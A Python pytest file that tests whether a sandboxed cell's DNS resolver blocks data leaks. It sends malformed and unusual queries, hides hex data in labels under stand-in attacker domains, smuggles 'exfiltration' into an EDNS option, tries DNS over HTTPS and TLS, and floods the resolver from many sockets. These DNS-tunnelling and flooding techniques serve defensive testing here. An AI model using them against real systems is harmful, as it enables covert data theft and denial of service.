"""A real cell asks DNS for what it should not know or tell: no question leaves the node, each odd one is answered safely."""

from __future__ import annotations

import secrets
import struct

import dns.message
import pytest
from attacked import Attacker, Whole, request
from instance import wait_for

from remit.core import flow

pytestmark = pytest.mark.xdist_group("attacks-whole")

API, RESOLVER = "api.up.example", "10.201.0.53"
NOERROR, FORMERR, SERVFAIL, NXDOMAIN, NOTIMP, REFUSED = range(6)
EDNS = b"\0\0\x29\x10\0\0\0\0\0"
"""An OPT record up to the length of its options."""


def query(
    name: bytes, kind: int = 1, *, rclass: int = 1, flags: int = 0x0100, questions: int = 1, more: bytes = b""
) -> bytes:
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b".") if label) + b"\0"
    question = labels + struct.pack("!HH", kind, rclass)
    return struct.pack("!6H", 0x1234, flags, questions, 0, 0, int(bool(more))) + question * questions + more


QUESTIONS: dict[str, tuple[bytes, int]] = {
    "TXT": (query(b"api.up.example", 16), NOERROR),
    "ANY": (query(b"api.up.example", 255), NOERROR),
    "HTTPS, which would switch on ECH": (query(b"api.up.example", 65), NOERROR),
    "SVCB": (query(b"api.up.example", 64), NOERROR),
    "MX": (query(b"api.up.example", 15), NOERROR),
    "NS": (query(b"up.example", 2), NOERROR),
    "NULL, which carries anything": (query(b"api.up.example", 10), NOERROR),
    "a zone transfer": (query(b"up.example", 252), NOERROR),
    "a type of its own": (query(b"api.up.example", 65333), NOERROR),
    "a reverse look-up": (query(b"1.0.0.10.in-addr.arpa", 12), NXDOMAIN),
    "the version of the server": (query(b"version.bind", 16, rclass=3), REFUSED),
    "a dynamic update": (query(b"up.example", 6, flags=0x2800), NOTIMP),
    "a notification": (query(b"up.example", 6, flags=0x2000), NOTIMP),
    "two questions": (query(b"api.up.example", questions=2), FORMERR),
    "an EDNS version that does not exist": (query(b"api.up.example", more=b"\0\0\x29\x10\0\0\x09\0\0\0\0"), NOERROR),
    "a name that is not ASCII": (query("täst.up.example".encode()), NXDOMAIN),
    "a NUL in a name": (query(b"api\0.up.example"), NXDOMAIN),
    "a space in a name": (query(b"api .up.example"), NXDOMAIN),
    "a dot in a label": (struct.pack("!6H", 1, 256, 1, 0, 0, 0) + b"\x0eapi.up.example\0\0\1\0\1", NXDOMAIN),
    "brackets": (query(b"[api.up.example]"), NXDOMAIN),
    "an underscore": (query(b"_dmarc.up.example"), NXDOMAIN),
    "an address as a name": (query(b"169.254.169.254"), NXDOMAIN),
    "a number as a name": (query(b"2852039166"), NXDOMAIN),
    "hexadecimal": (query(b"0xa9fea9fe"), NXDOMAIN),
    "a wildcard": (query(b"*.up.example"), NXDOMAIN),
    "the root": (query(b""), NXDOMAIN),
    "a compression loop": (struct.pack("!6H", 1, 256, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1", FORMERR),
    "a label that runs over the end": (struct.pack("!6H", 1, 256, 1, 0, 0, 0) + b"\x3fabc", FORMERR),
    "the canary for DNS over HTTPS": (query(b"use-application-dns.net"), NXDOMAIN),
}


@pytest.mark.parametrize("sentence", QUESTIONS)
@pytest.mark.parametrize("to", [RESOLVER, "8.8.8.8", "2001:4860:4860::8888"])
def test_a_question_that_could_carry_something_gets_an_empty_answer(
    whole: Whole, cell: Attacker, sentence: str, to: str
) -> None:
    data, code = QUESTIONS[sentence]
    before = whole.names.asked.total()
    said = bytes.fromhex(cell.do("result = datagram(data, to)", data=data, to=to))
    assert (said[:2], said[3] & 15) == (data[:2], code)
    assert struct.unpack("!H", said[6:8]) == (0,), "an answer record"
    assert whole.names.asked.total() == before, "it was asked for upstream"


def test_data_in_labels_stays_on_the_node_and_is_recorded(whole: Whole, cell: Attacker) -> None:
    """Under an exact host, under a wildcard's host that is only looked up, and under nothing at all."""
    before = whole.names.asked.total()
    for under in (API, "wild.up.example", "attacker.example"):
        hidden = f"{secrets.token_hex(20)}.{secrets.token_hex(20)}.{under}"
        source = """
result = [address(host), address(host, socket.AF_INET6)]
"""
        assert tuple(cell.do(source, host=hidden)) == flow.virtual(hidden)
        if under != "wild.up.example":
            wait_for(
                lambda hidden=hidden: [
                    r for r in whole.audit(kind="dns", host=hidden) if r["reason"] == "no_capability"
                ],
                "a dns record",
            )
    assert whole.names.asked.total() == before


def test_a_refused_request_looks_nothing_up(whole: Whole, cell: Attacker) -> None:
    """Also where the host is governed and only the path is not: data would leave in the labels of a wildcard."""
    port, before = whole.hostile.port, whole.names.asked.total()
    for number, (host, path) in enumerate(
        [(f"{secrets.token_hex(20)}.wild.up.example", "/closed"), (f"x.{API}", "/v1/x")]
    ):
        whole.refused(lambda host=host, path=path: cell.ask(host, port, request(host, port, path)), "no_capability")
        assert whole.names.asked.total() == before, number


def test_spellings_of_a_name_are_one_name(cell: Attacker) -> None:
    one = flow.virtual(API)[0]
    for spelled in (API, "API.UP.EXAMPLE", "aPi.Up.eXample.", f"{API}."):
        assert cell.do("result = address(host)", host=spelled) == one


def test_no_search_domain_makes_another_name_of_one(whole: Whole, cell: Attacker) -> None:
    assert cell.do("result = address('printer')") == flow.virtual("printer")[0]
    assert "search" not in cell.do("result = open('/etc/resolv.conf').read()")


def test_a_suffix_that_the_agents_resolver_appends_leads_nowhere_else(whole: Whole, cell: Attacker) -> None:
    """glibc completes names with LOCALDOMAIN first when ndots says so: the request then names another host than its
    connection, and no name but the one that was decided is looked up."""
    port, before = whole.upstreams.https_port, whole.names.asked.total()
    source = """
import os, subprocess, sys
code = "import socket, sys; print(socket.gethostbyname(sys.argv[1]))"
environment = os.environ | {"LOCALDOMAIN": "evil.up.example", "RES_OPTIONS": "ndots:9"}
result = subprocess.run([sys.executable, "-c", code, host], env=environment, capture_output=True, text=True).stdout
"""
    found = cell.do(source, host=API).strip()
    assert found == flow.virtual(f"{API}.evil.up.example")[0]
    whole.refused(lambda: cell.ask(API, port, request(API, port), to=found), "destination_mismatch")
    assert whole.names.asked.total() == before


def test_a_refused_name_is_recorded_once_however_often_it_is_asked(whole: Whole, cell: Attacker) -> None:
    """The next record of it comes after a minute, with the count (`unit/test_node_dns.py`)."""
    name = f"{secrets.token_hex(8)}.often.example"
    cell.do("result = [datagram(data, to) for _ in range(300)][-1]", data=query(name.encode()), to=RESOLVER)
    other = f"{secrets.token_hex(8)}.often.example"
    cell.do("result = datagram(data, to)", data=query(other.encode()), to=RESOLVER)
    wait_for(lambda: whole.audit(kind="dns", host=other), "the record of a later name")
    (record,) = whole.audit(kind="dns", host=name)
    assert (record["reason"], record["count"] <= 300) == ("no_capability", True)


def test_a_name_in_another_script_shares_nothing_with_the_one_it_looks_like(whole: Whole, cell: Attacker) -> None:
    """`аpi.up.example` with a Cyrillic а, as clients write it (RFC 5890)."""
    name, port = "xn--pi-6kc.up.example", whole.upstreams.https_port
    assert cell.do("result = address(host)", host=name) == flow.virtual(name)[0] != flow.virtual(API)[0]
    whole.refused(lambda: cell.ask(name, port, request(name, port)), "no_capability")
    whole.refused(lambda: cell.ask(API, port, request(name, port)), "name_mismatch")


def test_tcp_and_edns_say_the_same_and_options_are_not_echoed(whole: Whole, cell: Attacker) -> None:
    """Client subnet and cookies carry data of the agent's; a pipelined second question is answered alike."""
    option = b"\xfd\xe9\0\x0c" + b"exfiltration"
    asked = query(b"api.up.example", more=EDNS + struct.pack("!H", len(option)) + option)
    source = """
import struct
with socket.create_connection((to, 53), 10) as sock:
    sock.sendall((struct.pack("!H", len(data)) + data) * 2)
    stream = sock.makefile("rb")
    result = [stream.read(struct.unpack("!H", stream.read(2))[0]).hex() for _ in range(2)]
result.append(datagram(data, to))
"""
    for to in (RESOLVER, "1.1.1.1"):
        for said in cell.do(source, data=asked, to=to):
            answer = dns.message.from_wire(bytes.fromhex(said))
            assert [item.address for item in answer.answer[0]] == [flow.virtual(API)[0]]
            assert not answer.options
            assert b"exfiltration" not in bytes.fromhex(said)


OTHER_WAYS = {
    "DNS over HTTPS by name": ("dns.google", 443, True, "no_capability"),
    "DNS over HTTPS by address": ("8.8.8.8", 443, True, "no_capability"),
    "DNS over HTTPS in the clear": ("cloudflare-dns.com", 80, False, "no_capability"),
}


@pytest.mark.parametrize("sentence", OTHER_WAYS)
def test_dns_over_https_is_a_request_like_any_other(whole: Whole, cell: Attacker, sentence: str) -> None:
    host, port, tls, reason = OTHER_WAYS[sentence]
    before = whole.names.asked.total()
    literal = host[0].isdigit()
    data = f"GET /dns-query?dns=AAABAAAB HTTP/1.1\r\nhost: {host}\r\naccept: application/dns-message\r\n\r\n".encode()
    options = {"tls": tls, "sni": None if literal else host, "to": host if literal else None}
    whole.refused(lambda: cell.ask(host, port, data, **options), reason)
    assert whole.names.asked.total() == before


def test_a_resolver_of_its_own_is_unreachable(whole: Whole, cell: Attacker) -> None:
    """UDP to any port but 53 is refused in the cell; DNS over TLS and over a port of its own end at the boundary."""
    data = query(b"api.up.example")
    for to, port in (("8.8.8.8", 5353), ("8.8.8.8", 853), ("2001:4860:4860::8888", 443), ("192.0.2.2", 54)):
        assert cell.do("result = datagram(data, to, port, 2.0)", data=data, to=to, port=port) != data.hex()
        assert cell.do("result = datagram(data, to, port, 2.0)", data=data, to=to, port=port) in (
            "PermissionError",
            "ConnectionRefusedError",
            "OSError",
        )
    before = whole.arrived
    framed = struct.pack("!H", len(data)) + data
    source = """
with connect("", port, to=to, tls=False) as sock:
    result = everything(sock, data)
"""
    for port in (853, 5300):
        assert cell.do(source, port=port, to="8.8.8.8", data=framed) == ""
        found = wait_for(
            lambda port=port: [r for r in whole.audit(reason="no_capability", host="8.8.8.8") if r["port"] == port],
            "a record",
        )
        assert found[-1]["role"] == "attacker"
    assert whole.arrived == before
    whole.still_works(cell)


def test_questions_without_end_from_one_cell_do_not_stop_another(whole: Whole, neighbour: Attacker) -> None:
    """More than can be answered, from many sockets at once and each another one; the decision service does it all."""
    source = """
import selectors, struct
ready, socks, asked, answered = selectors.DefaultSelector(), [], 0, 0
for _ in range(16):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    sock.connect((to, 53))
    ready.register(sock, selectors.EVENT_READ)
    socks.append(sock)
def flood():
    global asked
    for sock in socks:
        for _ in range(64):
            asked += 1
            label = b"_%x" % asked
            try:
                sock.send(data[:12] + bytes([len(label)]) + label + data[12:])
            except BlockingIOError:
                break
while answered < count:
    flood()
    for key, _ in ready.select(0.1):
        try:
            while key.fileobj.recv(512):
                answered += 1
        except BlockingIOError:
            pass
result = asked > answered
"""
    port, before = whole.upstreams.https_port, whole.remit.pids()
    with whole.attacker("attacker") as flooding:
        flooding.start(source, to=RESOLVER, data=query(b"flood.example"), count=6000)
        for number in range(20):
            looked_up = neighbour.do("result = address(host)", host=f"calm-{number}.example")
            assert looked_up == flow.virtual(f"calm-{number}.example")[0]
            assert neighbour.ask(API, port, request(API, port, f"/v1/calm-{number}"))["status"] == 200
        assert flooding.finish()
    assert whole.remit.pids() == before, "no part was started anew"
